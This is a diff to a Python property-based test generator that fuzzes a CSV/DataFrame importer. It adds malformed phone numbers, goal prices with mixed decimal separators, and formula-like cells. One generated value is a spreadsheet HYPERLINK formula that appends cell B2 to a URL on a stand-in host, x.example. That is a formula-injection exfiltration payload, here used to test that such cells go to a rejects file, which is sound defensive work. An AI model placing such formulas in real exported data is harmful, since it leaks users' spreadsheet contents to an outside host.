@@ -123,6 +123,20 @@ _PHONE_SHAPES = (
     "{b}{c}",
     "7999{a}{b}{c}{a}{b}{c}",
     "+44 20 {a}{b} {c}{b}",
+    # numbering-plan mistakes: prefixes left in, doubled or unknown country codes, wrong lengths
+    "0049 30 {a}{b}{c}",
+    "00 7 916 {a} {b} {c}",
+    "810 7 916 {a} {b} {c}",
+    "+7 8 916 {a}-{b}-{c}",
+    "77 916 {a} {b} {c}",
+    "+44 0 20 {a}{b} {c}{b}",
+    "+49 0 30 {a}{b}{c}",
+    "+44 44 20 {a}{b} {c}{b}",
+    "+28 {a} {b}{c}",
+    "+1 1 212 {a} {b}{c}",
+    "+1 212 {a} {b}{c}",
+    "{a}{b}{c}",
+    "030 {a}{b}{c}",
 )
 
 
@@ -133,6 +147,8 @@ def phones(draw: st.DrawFn) -> str:
     def one() -> str:
         if draw(st.integers(0, 9)) == 0:
             return draw(st.text(alphabet="0123456789 +()-.x#;\u00a0доб", max_size=20))
+        if draw(st.integers(0, 9)) == 0:
+            return "+" + draw(st.text(alphabet="0123456789", min_size=7, max_size=15))
         shape = draw(st.sampled_from(_PHONE_SHAPES))
         a, b, c = draw(st.integers(100, 999)), draw(st.integers(10, 99)), draw(st.integers(10, 99))
         return shape.format(a=a, b=b, c=c)
@@ -284,6 +300,7 @@ def rows(draw: st.DrawFn, columns: tuple[str, ...]) -> dict[str, str]:
         "currency": st.sampled_from(["", "RUB", "eur", " usd ", "RUBL", "руб", "€", "Us1"]),
     }
     row = {column: _with_control(draw, draw(makers[column])) for column in columns}
+    _with_formula(draw, row)
     if draw(st.integers(0, 60)) == 0:
         row["id"] = HUGE
     return row
@@ -319,3 +336,80 @@ def examples(draw: st.DrawFn) -> Example:
         decimal_option,
         options,
     )
+
+
+# -- goal prices under the file's decimal separator --------------------------------------------------
+
+_GOAL_ITEMS = (
+    "oplata",
+    "filial_1",
+    "50",
+    "oplata:4590",
+    "oplata:4590.50",
+    "oplata:4590,50",
+    "oplata:4590,50:10",
+    "a:0200.50",
+    "a:1.234",
+    "a:12.500",
+    "a:1.2345",
+    "a:0,5",
+    "a:12,",
+    "a:1.",
+    "a:.5",
+    "a:-5",
+    "goal one:1",
+    "a: 5",
+    "a:1 299,99",
+)
+
+
+@dataclass(frozen=True)
+class GoalExample:
+    """Goals cells in one input, its form and the ``decimal`` option."""
+
+    cells: list[str]
+    form: str  # "frame" or "csv"
+    delimiter: str
+    decimal_option: str | None
+
+    @property
+    def decimal(self) -> str:
+        """Return the separator in force: the option, else ``either`` for a semicolon file, else ``.``."""
+        if self.decimal_option is not None:
+            return self.decimal_option
+        return "either" if self.form == "csv" and self.delimiter == ";" else "."
+
+
+@st.composite
+def goal_cells(draw: st.DrawFn) -> str:
+    """A goals cell: priced and plain goals, decimal commas and dots, joined tightly or with spaces."""
+    if draw(st.integers(0, 4)) == 0:
+        return draw(st.text(alphabet="ab1_:,.5 0\u00a0", max_size=16))
+    items = draw(st.lists(st.sampled_from(_GOAL_ITEMS), max_size=4))
+    cell = items[0] if items else ""
+    for item in items[1:]:
+        cell += draw(st.sampled_from([",", ",", ", ", " ,"])) + item
+    return cell
+
+
+@st.composite
+def goal_examples(draw: st.DrawFn) -> GoalExample:
+    """An input of 1 to 6 goals cells, as CSV (comma or semicolon) or a DataFrame, with a decimal option."""
+    form = draw(st.sampled_from(["csv", "csv", "frame"]))
+    delimiter = draw(st.sampled_from([",", ";"])) if form == "csv" else ","
+    decimal_option = draw(st.sampled_from([None, None, ",", "."]))
+    return GoalExample(draw(st.lists(goal_cells(), min_size=1, max_size=6)), form, delimiter, decimal_option)
+
+
+# -- formula-like cells, for the rejects file ----------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _with_formula(draw: st.DrawFn, row: dict[str, str]) -> None:
+    """Now and then start a cell like a spreadsheet formula (``=HYPERLINK(...)``, ``@SUM``, ``-1+1``)."""
+    if draw(st.integers(0, 3)):
+        return
+    column = draw(st.sampled_from(sorted(row)))
+    start = draw(st.sampled_from(FORMULA_STARTS))
+    row[column] = draw(st.sampled_from([f'{start}HYPERLINK("http://x.example/?"&B2)', start + row[column]]))
